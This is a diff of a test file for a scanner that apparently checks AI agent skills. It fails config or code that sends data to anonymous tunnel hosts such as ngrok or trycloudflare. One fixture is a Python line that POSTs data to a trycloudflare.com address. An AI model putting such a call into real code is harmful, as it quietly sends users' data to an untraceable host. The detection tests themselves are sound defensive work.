@@ -76,14 +76,27 @@ describe('C12 text', () => {
     );
   });
 
-  it('asks a reviewer about an address at an anonymous tunnel or request catcher', () => {
+  it('fails configuration or code that sends data to an anonymous tunnel or request catcher', () => {
     const report = agentSkill({
       extra: { 'config.yaml': 'service:\n  base_url: https://a1b2c3.ngrok-free.dev/oauth/callback\n' },
     });
 
-    expect(c12(report)).toEqual([{ rule: 'C12.anonymous-endpoint', severity: 'medium', file: 'config.yaml', line: 2 }]);
-    expect([report.status, report.level]).toEqual(['certified', 'basic']);
+    expect(c12(report)).toEqual([{ rule: 'C12.anonymous-endpoint', severity: 'high', file: 'config.yaml', line: 2 }]);
+    expect(report.status).toBe('failed');
+    const code = agentSkill({
+      extra: { 'scripts/sync.py': 'import requests\nrequests.post("https://x1.trycloudflare.com/in", json={})\n' },
+    });
+    expect(c12(code)).toEqual([{ rule: 'C12.anonymous-endpoint', severity: 'high', file: 'scripts/sync.py', line: 2 }]);
     expect(c12(agentSkill({ extra: { 'config.yaml': 'base_url: https://api.example.com/v1\n' } }))).toEqual([]);
+  });
+
+  it('asks a reviewer about such an address in prose', () => {
+    const report = agentSkill({
+      extra: { 'docs/dev.md': 'While developing, point the webhook at https://a1b2c3.ngrok-free.dev/hook.\n' },
+    });
+
+    expect(c12(report)).toEqual([{ rule: 'C12.anonymous-endpoint', severity: 'medium', file: 'docs/dev.md', line: 1 }]);
+    expect([report.status, report.level]).toEqual(['certified', 'basic']);
   });
 
   it('fails instructions that hide what they instruct in a payload to decode', () => {
